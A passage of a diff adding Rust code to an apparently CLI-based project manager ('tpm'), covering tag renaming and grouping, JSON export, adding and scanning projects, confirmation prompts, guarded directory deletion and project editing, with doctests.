+/// assert_eq!(filter_by_tag(&get_projects().unwrap(), "rust").len(), 2);
+/// assert!(filter_by_tag(&get_projects().unwrap(), "work").is_empty());
+///
+/// assert_eq!(delete_tag("Rust").unwrap(), "Removed Rust from 2 projects");
+/// assert!(get_projects().unwrap().iter().all(|p| filter_by_tag(&[p.clone()], "rust").is_empty()));
+/// assert!(rename_tag("rust", "a,b").is_err());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn rename_tag(old: &str, new: &str) -> Result<String, DynErr> {
+    let new = new.trim();
+    if new.is_empty() || new.contains(',') {
+        return Err(format!(
+            "Invalid tag: {:?}. Tags can't be empty or contain commas",
+            new
+        )
+        .into());
+    }
+    let count = replace_tag(old, Some(new))?;
+    if count == 0 {
+        return Ok(format!("No projects are tagged {}", old.trim()));
+    }
+
+    Ok(format!(
+        "Renamed {} to {} on {} projects",
+        old.trim(),
+        new,
+        count
+    ))
+}
+
+/// Removes the tag (ignoring case) from every project that has it, saving
+/// the projects once. See [`rename_tag`].
+pub fn delete_tag(tag: &str) -> Result<String, DynErr> {
+    let count = replace_tag(tag, None)?;
+    if count == 0 {
+        return Ok(format!("No projects are tagged {}", tag.trim()));
+    }
+
+    Ok(format!("Removed {} from {} projects", tag.trim(), count))
+}
+
+/// Replaces the tag `old` with `new` on every project that has it, or removes
+/// it if `new` is `None`, and returns how many projects were changed.
+fn replace_tag(old: &str, new: Option<&str>) -> Result<usize, DynErr> {
+    let mut projects = get_projects()?;
+    let mut count = 0;
+    for project in projects.iter_mut().filter(|project| project.has_tag(old)) {
+        let tags = project
+            .tags
+            .iter()
+            .map(|tag| match new {
+                _ if !tag.eq_ignore_ascii_case(old.trim()) => tag.clone(),
+                Some(new) => new.to_string(),
+                // dropped by `set_tags`
+                None => String::new(),
+            })
+            .collect::<Vec<_>>();
+        project.set_tags(&tags);
+        count += 1;
+    }
+    if count > 0 {
+        save_projects(&projects)?;
+    }
+
+    Ok(count)
+}
+
+/// The group [`group_by_tag`] puts projects without tags in
+pub const UNTAGGED: &str = "(untagged)";
+
+/// Groups projects by tag, keeping their order within each tag. Tags are
+/// compared ignoring ASCII case, like [`filter_by_tag`], and grouped under
+/// their lowercase form. Projects with several tags are in each of their
+/// groups, and ones without tags are under [`UNTAGGED`].
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{group_by_tag, Project, UNTAGGED};
+///
+/// let mut api = Project::new("api", "/code/api").unwrap();
+/// api.set_tags(&["rust".to_string(), "work".to_string()]);
+/// let mut site = Project::new("site", "/code/site").unwrap();
+/// site.set_tags(&["Work".to_string()]);
+/// let notes = Project::new("notes", "/code/notes").unwrap();
+/// let projects = [api, site, notes];
+///
+/// let groups = group_by_tag(&projects);
+/// let names = |tag: &str| groups[tag].iter().map(|p| p.name()).collect::<Vec<_>>();
+/// assert_eq!(groups.keys().collect::<Vec<_>>(), [UNTAGGED, "rust", "work"]);
+/// assert_eq!(names("rust"), ["api"]);
+/// assert_eq!(names("work"), ["api", "site"]);
+/// assert_eq!(names(UNTAGGED), ["notes"]);
+/// ```
+pub fn group_by_tag(projects: &[Project]) -> BTreeMap<String, Vec<&Project>> {
+    let mut groups: BTreeMap<String, Vec<&Project>> = BTreeMap::new();
+    for project in projects {
+        if project.tags.is_empty() {
+            groups
+                .entry(UNTAGGED.to_string())
+                .or_default()
+                .push(project);
+        }
+        for tag in &project.tags {
+            let group = groups.entry(tag.to_ascii_lowercase()).or_default();
+            // a projects file edited by hand can have the same tag twice
+            if !group
+                .last()
+                .is_some_and(|last| std::ptr::eq(*last, project))
+            {
+                group.push(project);
+            }
+        }
+    }
+    groups
+}
+
+/// Formats the groups from [`group_by_tag`] as a header per tag followed by
+/// its projects, with untagged projects last.
+pub fn format_tag_groups(groups: &BTreeMap<String, Vec<&Project>>) -> String {
+    let (untagged, tagged): (Vec<_>, Vec<_>) =
+        groups.iter().partition(|(tag, _)| tag.as_str() == UNTAGGED);
+    tagged
+        .into_iter()
+        .chain(untagged)
+        .map(|(tag, projects)| {
+            let lines = projects
+                .iter()
+                .map(|project| format!("  {}", project))
+                .collect::<Vec<_>>();
+            format!("{}\n{}", tag, lines.join("\n"))
+        })
+        .collect::<Vec<_>>()
+        .join("\n\n")
+}
+
+/// Renders projects as a pretty-printed JSON array for scripting, with
+/// timestamps as whole seconds since the Unix epoch.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{projects_to_json, Project};
+///
+/// assert_eq!(projects_to_json(&[]).unwrap(), "[]");
+///
+/// let json = projects_to_json(&[Project::default()]).unwrap();
+/// assert!(json.contains(r#""last_opened": 0"#));
+/// ```
+pub fn projects_to_json(projects: &[Project]) -> Result<String, DynErr> {
+    let projects = projects
+        .iter()
+        .map(|project| {
+            serde_json::json!({
+                "name": project.name,
+                "path": project.path,
+                "last_opened": project.last_opened.as_secs(),
+                "created_at": project.created_at.as_secs(),
+                "description": project.description,
+                "tags": project.tags,
+                "archived": project.archived,
+                "git_remote": project.git_remote,
+                "git_branch": project.git_branch,
+                "on_open": project.on_open,
+                "aliases": project.aliases,
+            })
+        })
+        .collect::<Vec<_>>();
+
+    Ok(serde_json::to_string_pretty(&projects)?)
+}
+
+pub fn add_project(
+    name: &str,
+    path: &str,
+    tags: &[String],
+    description: &str,
+) -> Result<HandlerOutcome, DynErr> {
+    let mut projects = get_projects()?;
+    let default_path = env::current_dir()?;
+    let default_name = default_path
+        .file_name()
+        .ok_or("Problem getting default name")?
+        .to_str()
+        .ok_or("Problem converting default name to string")?;
+    let name = if name.is_empty() { default_name } else { name };
+    let path = if path.is_empty() {
+        let default_path_str = default_path
+            .to_str()
+            .ok_or("Problem converting default path to string")?;
+        PathBuf::from(default_path_str)
+    } else {
+        let expanded = expand_path(path)?;
+        expanded
+            .canonicalize()
+            .map_err(|err| format!("Could not add {}: {}", expanded.display(), err))?
+    };
+    let mut project = Project {
+        name: name.to_string(),
+        path: path
+            .to_str()
+            .ok_or("Problem converting path to string")?
+            .to_string(),
+        last_opened: Duration::from_secs(0),
+        created_at: Duration::from_secs(0),
+        description: String::new(),
+        tags: vec![],
+        archived: false,
+        git_remote: None,
+        git_branch: None,
+        on_open: None,
+        aliases: vec![],
+    };
+    project.set_last_opened()?;
+    project.created_at = project.last_opened;
+    (project.git_remote, project.git_branch) = detect_git_info(&path);
+    project.set_tags(tags);
+    project.set_description(description)?;
+    // a project with this exact name can be overwritten, but not shadow an alias
+    check_name_available(&projects, &project.name, &project.name)?;
+    // checked before overwriting, so a project with this name can't be made
+    // to point at another project's directory
+    if let Some(existing) = find_project_by_path(&projects, &project.path)
+        .filter(|existing| existing.name != project.name)
+    {
+        let existing_name = existing.name.clone();
+        let prompt = format!(
+            "Project {} already points to {}. Rename it to {} instead?",
+            existing_name, project.path, project.name
+        );
+        // not asked (and not renamed) when there's no terminal to answer, or
+        // when the name is taken too
+        if !project_already_exists(&project.name) && confirm_optional(&prompt).unwrap_or(false) {
+            return rename_project(&existing_name, &project.name).map(HandlerOutcome::Message);
+        }
+        return Err(format!(
+            "Project {} already points to {}",
+            existing_name, project.path
+        )
+        .into());
+    }
+    if project_already_exists(&project.name) {
+        return show_overwrite_project_interface(&project);
+    }
+    projects.push(project.clone());
+    save_projects(&projects)?;
+
+    Ok(HandlerOutcome::AddedProject {
+        message: format!("Added {}!", name),
+        name: project.name,
+    })
+}
+
+/// Returns a project for each directory inside `dir`, named after the
+/// directory, looking up to `depth` levels down.
+///
+/// With a `depth` above 1, a directory that isn't a git repository is looked
+/// inside instead of being returned, until the last level. Git repositories
+/// and the paths of `tracked` projects are returned without looking inside
+/// them. Hidden directories are skipped.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::scan_for_projects;
+///
+/// let dir = tmp.join("scan");
+/// fs::create_dir_all(dir.join("api")).unwrap();
+/// fs::create_dir_all(dir.join("web")).unwrap();
+/// fs::create_dir_all(dir.join(".cache")).unwrap();
+/// fs::write(dir.join("notes.txt"), "").unwrap();
+///
+/// let projects = scan_for_projects(&dir, 1, &[]).unwrap();
+/// let dir = dir.canonicalize().unwrap();
+/// let expected = [
+///     format!("api ({})", dir.join("api").display()),
+///     format!("web ({})", dir.join("web").display()),
+/// ];
+/// assert_eq!(projects.iter().map(|p| p.to_string()).collect::<Vec<_>>(), expected);
+/// // they haven't been opened yet
+/// assert!(projects.iter().all(|p| p.last_opened().is_zero()));
+///
+/// // a monorepo-style layout: org/repo, with a repository at the top level too
+/// fs::create_dir_all(dir.join("org/lib/src")).unwrap();
+/// fs::create_dir_all(dir.join("tool/.git")).unwrap();
+/// fs::create_dir_all(dir.join("tool/src")).unwrap();
+/// let names = |projects: Vec<tpm_lib::Project>| {
+///     projects.iter().map(|p| p.name().to_string()).collect::<Vec<_>>()
+/// };
+/// assert_eq!(names(scan_for_projects(&dir, 2, &[]).unwrap()), ["lib", "tool"]);
+/// assert_eq!(names(scan_for_projects(&dir, 3, &[]).unwrap()), ["src", "tool"]);
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn scan_for_projects(
+    dir: &Path,
+    depth: usize,
+    tracked: &[Project],
+) -> Result<Vec<Project>, DynErr> {
+    let dir = dir
+        .canonicalize()
+        .map_err(|err| format!("Could not scan {}: {}", dir.display(), err))?;
+    let mut projects = vec![];
+    scan_dir(&dir, depth, tracked, &mut projects)?;
+    projects.sort_by(|a, b| a.name.cmp(&b.name));
+
+    Ok(projects)
+}
+
+/// Walks `dir` for [`scan_for_projects`], pushing the projects it finds.
+fn scan_dir(
+    dir: &Path,
+    depth: usize,
+    tracked: &[Project],
+    projects: &mut Vec<Project>,
+) -> Result<(), DynErr> {
+    for entry in fs::read_dir(dir)? {
+        let path = entry?.path();
+        let Some(name) = path.file_name().and_then(|name| name.to_str()) else {
+            continue;
+        };
+        if name.starts_with('.') || !path.is_dir() {
+            continue;
+        }
+        let path_str = path.to_str().ok_or("Problem converting path to string")?;
+        let is_tracked = tracked.iter().any(|p| paths_equal(&p.path, path_str));
+        if depth > 1 && !is_tracked && !path.join(".git").exists() {
+            scan_dir(&path, depth - 1, tracked, projects)?;
+            continue;
+        }
+        let mut project = Project {
+            name: name.to_string(),
+            path: path
+                .to_str()
+                .ok_or("Problem converting path to string")?
+                .to_string(),
+            ..Project::default()
+        };
+        // found, not opened, so only when it was added is known
+        let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH)?;
+        project.created_at = Duration::from_secs(now.as_secs());
+        projects.push(project);
+    }
+
+    Ok(())
+}
+
+/// Adds the projects found by [`scan_for_projects`] in `dir`, up to `depth`
+/// levels down, skipping ones whose name or path is already taken. If
+/// `git_only` is true, only git repositories are added.
+pub fn add_scanned_projects(
+    dir: &Path,
+    depth: usize,
+    git_only: bool,
+    tags: &[String],
+) -> Result<String, DynErr> {
+    let mut projects = get_projects()?;
+    let mut skipped = 0;
+    let mut names = HashSet::new();
+    let scanned = scan_for_projects(dir, depth, &projects)?;
+    let found = with_progress("Scanning", &scanned, |project| {
+        let path = project.path_buf();
+        if git_only && !path.join(".git").exists() {
+            return None;
+        }
+        // nested directories can share a name, e.g. org-a/api and org-b/api
+        if projects
+            .iter()
+            .any(|p| p.is_named(&project.name) || paths_equal(&p.path, &project.path))
+            || !names.insert(project.name.clone())
+        {
+            skipped += 1;
+            return None;
+        }
+        let mut project = project.clone();
+        (project.git_remote, project.git_branch) = detect_git_info(&path);
+        project.set_tags(tags);
+        Some(project)
+    });
+    let found = found.into_iter().flatten().collect::<Vec<_>>();
+    let added = found.len();
+    projects.extend(found);
+    save_projects(&projects)?;
+
+    Ok(format!(
+        "Added {} projects from {} ({} skipped, their name or path was taken)",
+        added,
+        dir.display(),
+        skipped
+    ))
+}
+
+pub(crate) fn show_overwrite_project_interface(
+    project: &Project,
+) -> Result<HandlerOutcome, DynErr> {
+    let overwrote = || HandlerOutcome::AddedProject {
+        name: project.name.clone(),
+        message: format!("Overwrote {}!", project.name),
+    };
+    if ASSUME_YES.load(Ordering::Relaxed) {
+        overwrite_project(project)?;
+        return Ok(overwrote());
+    }
+    let selection = Select::with_theme(&ColorfulTheme::default())
+        .with_prompt(format!(
+            "Project {} already exists. Overwrite?",
+            project.name
+        ))
+        .items(&["Yes", "No (Esc)"])
+        .default(0)
+        .interact_opt()
+        .unwrap_or(None);
+    if selection == Some(0) && confirm(&format!("Overwrite project {}", project.name), false)? {
+        overwrite_project(project)?;
+        return Ok(overwrote());
+    }
+    Ok(HandlerOutcome::Canceled)
+}
+
+/// Replaces the project with the same name as `project`.
+fn overwrite_project(project: &Project) -> Result<(), DynErr> {
+    let mut projects = get_projects()?;
+    projects.retain(|p| p.name != project.name);
+    projects.push(project.clone());
+    save_projects(&projects)
+}
+
+/// Asks the user a yes or no question, answering yes without asking if
+/// `--yes` was passed.
+pub(crate) fn confirm(prompt: &str, default: bool) -> Result<bool, DynErr> {
+    if ASSUME_YES.load(Ordering::Relaxed) {
+        return Ok(true);
+    }
+
+    Ok(Confirm::with_theme(&ColorfulTheme::default())
+        .with_prompt(prompt)
+        .default(default)
+        .interact()?)
+}
+
+/// Asks whether to do something the user didn't ask for, defaulting to no.
+///
+/// Unlike [`confirm`], `--yes` doesn't answer it: it's answered no without
+/// asking, so `--yes` only ever agrees to what the command was run to do.
+pub(crate) fn confirm_optional(prompt: &str) -> Result<bool, DynErr> {
+    if ASSUME_YES.load(Ordering::Relaxed) {
+        return Ok(false);
+    }
+
+    Ok(Confirm::with_theme(&ColorfulTheme::default())
+        .with_prompt(prompt)
+        .default(false)
+        .interact()?)
+}
+
+/// Returns true if a project is named `name`. Use [`find_project_by_path`]
+/// to check whether a path is taken.
+pub fn project_already_exists(name: &str) -> bool {
+    with_projects(|projects| projects.iter().any(|p| p.name == name)).unwrap_or_default()
+}
+
+/// Lets the user pick projects and then does `action` with them.
+///
+/// Esc or an empty selection goes back to where the user came from, and Esc
+/// on the "Open project in" menu goes back to the list of projects.
+pub(crate) fn show_select_projects_interface(
+    action: Action,
+    prompt: Option<&str>,
+) -> Result<NavResult, DynErr> {
+    let mut projects = get_projects()?;
+    projects.retain(|project| !project.archived);
+
+    if projects.is_empty() {
+        return select_no_projects_found();
+    }
+
+    let project_names = projects.iter().map(Project::label).collect::<Vec<_>>();
+
+    let theme = ColorfulTheme::default();
+    let max_length = select_max_length();
+    let fuzzy = projects.len() > load_config().fuzzy_select_threshold;
+
+    loop {
+        let dialogue = match action {
+            Action::Delete { .. } => Dialogue::MultiSelect(
+                MultiSelect::with_theme(&theme)
+                    .with_prompt(prompt.unwrap_or("Select a project"))
+                    .items(&project_names)
+                    .max_length(max_length),
+            ),
+            _ if fuzzy => Dialogue::FuzzySelect(
+                FuzzySelect::with_theme(&theme)
+                    .with_prompt(prompt.unwrap_or("Select a project (type to filter)"))
+                    .items(&project_names)
+                    .max_length(max_length),
+            ),
+            _ => Dialogue::Select(
+                Select::with_theme(&theme)
+                    .with_prompt(prompt.unwrap_or("Select a project"))
+                    .items(&project_names)
+                    .max_length(max_length),
+            ),
+        };
+
+        let selections = match dialogue {
+            Dialogue::Select(select) => select
+                .default(0)
+                .interact_opt()?
+                .map(|selection| vec![selection]),
+            // the selection is the index in `project_names` (labels are unique), even after filtering
+            Dialogue::FuzzySelect(fuzzy_select) => fuzzy_select
+                .default(0)
+                .interact_opt()?
+                .map(|selection| vec![selection]),
+            Dialogue::MultiSelect(multi_select) => multi_select.interact_opt()?,
+        };
+
+        let selections = selections.unwrap_or_default();
+        if selections.is_empty() {
+            return Ok(NavResult::Back);
+        }
+
+        let selected_projects = selections
+            .into_iter()
+            .map(|selection| projects[selection].clone())
+            .collect::<Vec<_>>();
+
+        let outcome = match action {
+            Action::Open => {
+                let selection = Select::with_theme(&theme)
+                    .with_prompt("Open project in")
+                    .items(&["Terminal", "Editor", "Back (Esc)", "Home", "Quit"])
+                    .default(0)
+                    .interact_opt()?;
+                let open_action = match selection {
+                    Some(0) => OpenAction::OpenInTerminal,
+                    Some(1) => OpenAction::OpenInEditor,
+                    Some(3) => return Ok(NavResult::Home),
+                    Some(4) => return Ok(NavResult::Done(HandlerOutcome::Completed)),
+                    _ => continue,
+                };
+                open_project(
+                    &selected_projects[0].name,
+                    open_action,
+                    &OpenOptions::default(),
+                )?
+            }
+            Action::Delete {
+                dry_run,
+                delete_dirs,
+            } => {
+                let names = project_names_of(&selected_projects);
+                if !dry_run && (delete_dirs || load_config().confirm_delete) {
+                    let prompt = if delete_dirs {
+                        format!("Delete {} and their directories?", listify(&names))
+                    } else {
+                        format!("Delete {}?", listify(&names))
+                    };
+                    if !confirm(&prompt, false)? {
+                        return Ok(NavResult::Done(HandlerOutcome::Canceled));
+                    }
+                }
+                delete_projects(&names, delete_dirs, dry_run)?.into()
+            }
+            Action::Edit => edit_project(&selected_projects[0].name)?,
+        };
+
+        return Ok(NavResult::Done(outcome));
+    }
+}
+
+/// Deletes the project `name` (or with that alias), and removes it from the
+/// workspaces it's in. Its directory is only deleted if `delete_dir` is true,
+/// after asking. With `confirm_delete` in the config, it asks before deleting
+/// the project too.
+pub fn delete_project(
+    name: &str,
+    dry_run: bool,
+    delete_dir: bool,
+) -> Result<HandlerOutcome, DynErr> {
+    let mut projects = get_projects()?;
+    let project = find_project_by_name_or_alias(&projects, name)
+        .ok_or_else(|| format!("Project {} not found", name))?;
+    let name = project.name.clone();
+    if dry_run {
+        return describe_deletion(&[&name], delete_dir).map(HandlerOutcome::Message);
+    }
+    if delete_dir {
+        let prompt = format!("Delete {} and its directory {}?", name, project.path);
+        if !confirm(&prompt, false)? {
+            return Ok(HandlerOutcome::Canceled);
+        }
+        return delete_projects(&[&name], true, false).map(HandlerOutcome::Message);
+    }
+    if load_config().confirm_delete && !confirm(&format!("Delete {}?", name), false)? {
+        return Ok(HandlerOutcome::Canceled);
+    }
+    projects.retain(|project| project.name != name);
+    save_projects(&projects)?;
+    remove_workspace_members(&[&name])?;
+
+    Ok(HandlerOutcome::Message(format!("Deleted {}!", name)))
+}
+
+pub fn delete_projects(
+    names: &[&str],
+    also_delete_dir: bool,
+    dry_run: bool,
+) -> Result<String, DynErr> {
+    if dry_run {
+        return describe_deletion(names, also_delete_dir);
+    }
+    let mut projects = get_projects()?;
+    // every name is looked up before anything is deleted
+    let deleted = names
+        .iter()
+        .map(|name| {
+            projects
+                .iter()
+                .find(|project| project.name == *name)
+                .ok_or_else(|| format!("Project {} not found", name))
+        })
+        .collect::<Result<Vec<_>, _>>()?;
+    if also_delete_dir {
+        for project in deleted {
+            let dir = match project
+                .canonical_project_path()
+                .and_then(|dir| check_safe_to_delete(&dir).map(|_| dir))
+            {
+                Ok(dir) => dir,
+                Err(err) => {
+                    eprintln!("Warning: {}. Skipping directory of {}", err, project.name);
+                    continue;
+                }
+            };
+            // keep going, so the projects whose directories are gone are removed too
+            if let Err(err) = fs::remove_dir_all(&dir) {
+                eprintln!("Warning: could not delete {}: {}", dir.display(), err);
+            }
+        }
+    }
+    projects.retain(|project| !names.contains(&project.name.as_str()));
+    save_projects(&projects)?;
+    remove_workspace_members(names)?;
+
+    let msg = if names.len() == 1 {
+        format!("Project {} deleted", names[0])
+    } else {
+        format!("Projects {} deleted", listify(names))
+    };
+
+    Ok(msg)
+}
+
+/// Returns an error if deleting `path` would remove the root directory, the
+/// home directory, or the `tpm` config directory (or any directory containing
+/// it).
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::{fs, path::Path};
+/// use tpm_lib::{check_safe_to_delete, home_dir};
+///
+/// assert!(check_safe_to_delete(Path::new("/")).is_err());
+/// assert!(check_safe_to_delete(&home_dir()).is_err());
+///
+/// let dir = tmp.join("safe-to-delete");
+/// fs::create_dir_all(&dir).unwrap();
+/// assert!(check_safe_to_delete(&dir).is_ok());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn check_safe_to_delete(path: &Path) -> Result<(), DynErr> {
+    let path = path.canonicalize()?;
+    let home_dir = home_dir().canonicalize().ok();
+    let config_dir = get_config_dir()?.canonicalize()?;
+    if path.parent().is_none() || home_dir.as_ref() == Some(&path) || config_dir.starts_with(&path)
+    {
+        return Err(format!("Refusing to delete {}", path.display()).into());
+    }
+
+    Ok(())
+}
+
+/// Describes what deleting the named projects would remove, one labeled line
+/// per action, without changing anything.
+fn describe_deletion(names: &[&str], also_delete_dir: bool) -> Result<String, DynErr> {
+    let projects = get_projects()?;
+    let (projects_file, _) = get_projects_file()?;
+    let mut lines = vec![];
+    for name in names {
+        let project = projects
+            .iter()
+            .find(|project| project.name == *name)
+            .ok_or_else(|| format!("Project {} not found", name))?;
+        lines.push(format!(
+            "[dry run] remove entry: {} from {}",
+            project,
+            projects_file.display()
+        ));
+        if !also_delete_dir {
+            continue;
+        }
+        match project
+            .canonical_project_path()
+            .and_then(|dir| check_safe_to_delete(&dir).map(|_| dir))
+        {
+            Ok(dir) => lines.push(format!("[dry run] delete directory: {}", dir.display())),
+            Err(err) => lines.push(format!("[dry run] skip directory: {}", err)),
+        }
+    }
+    lines.push("[dry run] no changes made".to_string());
+
+    Ok(lines.join("\n"))
+}
+
+fn project_names_of(projects: &[Project]) -> Vec<&str> {
+    projects
+        .iter()
+        .map(|project| project.name.as_str())
+        .collect()
+}
+
+fn listify(items: &[&str]) -> String {
+    let mut list = String::new();
+    for (i, item) in items.iter().enumerate() {
+        if i == items.len() - 1 {
+            list.push_str("and ");
+        }
+        list.push_str(item);
+        if i != items.len() - 1 {
+            list.push_str(", ");
+        }
+    }
+
+    list
+}
+
+/// Shows an interface for editing a project and saves the changes.
+///
+/// The user picks a field to edit from a menu, repeatedly, until they choose
+/// "Done" (which saves all changes at once) or "Cancel" (which discards them).
+pub fn edit_project(name: &str) -> Result<HandlerOutcome, DynErr> {
+    let mut projects = get_projects()?;
+    let name = find_project_by_name_or_alias(&projects, name)
+        .ok_or_else(|| format!("Project {} not found", name))?
+        .name
+        .clone();
+    let name = name.as_str();
+    let index = projects
+        .iter()
+        .position(|project| project.name == name)
+        .ok_or_else(|| format!("Project {} not found", name))?;
+
+    let mut project = projects[index].clone();
+    loop {
+        let fields = [
+            format!("Name: {}", project.name),
+            format!("Path: {}", project.path),
+            format!("Description: {}", project.description),
+            format!("Tags: {}", project.tags.join(", ")),
+            format!("On open: {}", project.on_open.as_deref().unwrap_or("")),
+            format!("Aliases: {}", project.aliases.join(", ")),
+            "Done".to_string(),
+            "Cancel".to_string(),
+        ];
+        let selection = Select::with_theme(&ColorfulTheme::default())
+            .with_prompt(format!("Edit {}", name))
+            .items(&fields)
+            .default(0)
+            .interact_opt()?;
+
+        let result = match selection {
+            Some(0) => {
+                let new_name = Input::<String>::new()
+                    .with_prompt("Project name")
+                    .default(project.name.clone())
+                    .interact_text()?;
+                check_name_available(&projects, name, &new_name)
+                    .and_then(|_| project.rename(&new_name))
+            }
+            Some(1) => match prompt_for_project_dir(&project.path)? {
+                Some(path) => path
+                    .to_str()
+                    .ok_or_else(|| "Problem converting path to string".into())
+                    .and_then(|path| {
+                        check_path_available(&projects, name, path)
+                            .and_then(|_| project.set_path(path))
+                    }),
+                None => Ok(()),
+            },
+            Some(2) => {
+                let new_description = Input::<String>::new()
+                    .with_prompt("Description")
+                    .with_initial_text(project.description.clone())
+                    .allow_empty(true)
+                    .interact_text()?;
+                project.set_description(&new_description)
+            }
+            Some(3) => {
+                let new_tags = Input::<String>::new()
+                    .with_prompt("Tags (comma-separated)")
+                    .with_initial_text(project.tags.join(", "))
+                    .allow_empty(true)
+                    .interact_text()?;
+                project.set_tags(&parse_tags(&new_tags));
+                Ok(())
+            }
+            Some(4) => {
+                let new_on_open = Input::<String>::new()
+                    .with_prompt("Command to run when opening (e.g. git fetch)")
+                    .with_initial_text(project.on_open.clone().unwrap_or_default())
+                    .allow_empty(true)
+                    .interact_text()?;
+                project.set_on_open(&new_on_open);
+                Ok(())
+            }
+            Some(5) => {
+                let new_aliases = Input::<String>::new()
+                    .with_prompt("Aliases (comma-separated)")
+                    .with_initial_text(project.aliases.join(", "))
+                    .allow_empty(true)
+                    .interact_text()?;
+                let new_aliases = new_aliases
+                    .split(',')
+                    .map(|alias| alias.to_string())
+                    .collect::<Vec<_>>();
+                let mut edited = projects.clone();
+                edited[index] = project.clone();
+                check_aliases_available(&edited, &project.name, &new_aliases)
+                    .map(|_| project.set_aliases(&new_aliases))
+            }
+            Some(6) => break,
+            _ => return Ok(HandlerOutcome::Canceled),
+        };
+
+        if let Err(err) = result {
+            println!("{}", err);
+        }
+    }
+
+    let new_name = project.name.clone();
+    projects[index] = project;
+    save_projects(&projects)?;
+    rename_workspace_member(name, &new_name)?;
+
+    Ok(HandlerOutcome::Message(format!("Edited {}!", name)))
+}
+
+/// Changes a project's name and/or path without prompting, as with
+/// `tpm edit <name> --name <new_name> --path <new_path>`.
+///
+/// Returns an error, changing nothing, if the project doesn't exist, the new
+/// name is taken, or the new path isn't a directory.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::fs;
+/// use tpm_lib::{add_project, get_projects, update_project};
+///
+/// let dir = tmp.join("update");
+/// let other_dir = tmp.join("update-moved");
+/// fs::create_dir_all(&dir).unwrap();
+/// fs::create_dir_all(&other_dir).unwrap();
+/// let other_dir = other_dir.canonicalize().unwrap();
+/// add_project("update-example", dir.to_str().unwrap(), &[], "").unwrap();
+/// let find = |name: &str| {
+///     get_projects().unwrap().into_iter().find(|p| p.to_string().starts_with(&format!("{} ", name)))
+/// };
+///
+/// // name only
+/// update_project("update-example", Some("updated-example"), None).unwrap();
+/// assert!(find("update-example").is_none());
+/// assert!(find("updated-example").is_some());
+///
+/// // path only
+/// update_project("updated-example", None, Some(other_dir.to_str().unwrap())).unwrap();
+/// let expected = format!("updated-example ({})", other_dir.display());
+/// assert_eq!(find("updated-example").unwrap().to_string(), expected);
+///
+/// // both
+/// let dir = dir.canonicalize().unwrap();
+/// update_project("updated-example", Some("update-example"), Some(dir.to_str().unwrap())).unwrap();
+/// let expected = format!("update-example ({})", dir.display());
+/// assert_eq!(find("update-example").unwrap().to_string(), expected);
+///
+/// assert!(update_project("update-example", None, Some("/no/such/dir")).is_err());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn update_project(
+    name: &str,
+    new_name: Option<&str>,
+    new_path: Option<&str>,
+) -> Result<String, DynErr> {
+    let mut projects = get_projects()?;
+    let index = projects
+        .iter()
+        .position(|project| project.name == name)
+        .or_else(|| projects.iter().position(|project| project.is_named(name)))
+        .ok_or_else(|| format!("Project {} not found", name))?;
+
+    let mut project = projects[index].clone();
+    let old_name = project.name.clone();
+    if let Some(new_name) = new_name {
+        check_name_available(&projects, &project.name, new_name)?;
+        project.rename(new_name)?;
+    }
+    if let Some(new_path) = new_path {
+        let new_path = resolve_project_dir(new_path)?;
+        let new_path = new_path
+            .to_str()
+            .ok_or("Problem converting path to string")?;
+        check_path_available(&projects, &old_name, new_path)?;
+        project.set_path(new_path)?;
+    }
+    let new_name = project.name.clone();
+    projects[index] = project;
+    save_projects(&projects)?;
+    rename_workspace_member(&old_name, &new_name)?;
+
+    Ok(format!("Edited {}!", name))
+}
+
+/// Opens a copy of the projects file in the editor, and saves it as the
+/// projects once it parses and every project in it is valid.
+///
+/// If it doesn't, the problem is shown and the user can reopen the editor to
+/// fix it. Until the copy is valid, the projects file and the in-memory
+/// projects are left as they were. Like [`import_projects`], asks before
+/// keeping an `on_open` command that wasn't there before.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// # #[cfg(unix)]
+/// # {
+/// use std::{env, fs, os::unix::fs::PermissionsExt};
+/// use tpm_lib::{edit_projects_file, get_projects_file};
+///
+/// // an "editor" that saves something that isn't a projects file
+/// let editor = tmp.join("editor.sh");
+/// fs::write(&editor, "#!/bin/sh\necho 'not json' > \"$1\"\n").unwrap();
+/// fs::set_permissions(&editor, fs::Permissions::from_mode(0o755)).unwrap();
+/// env::set_var("VISUAL", &editor);
+///
+/// let (projects_file, _) = get_projects_file().unwrap();
+/// let before = fs::read_to_string(&projects_file).unwrap_or_default();
+/// // not run interactively, so the editor isn't reopened
+/// let err = edit_projects_file().unwrap_err();
+/// assert!(err.to_string().starts_with("Projects file not changed"));
+/// assert_eq!(fs::read_to_string(&projects_file).unwrap_or_default(), before);
+/// # }
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn edit_projects_file() -> Result<String, DynErr> {
+    let (projects_file, format) = get_projects_file()?;
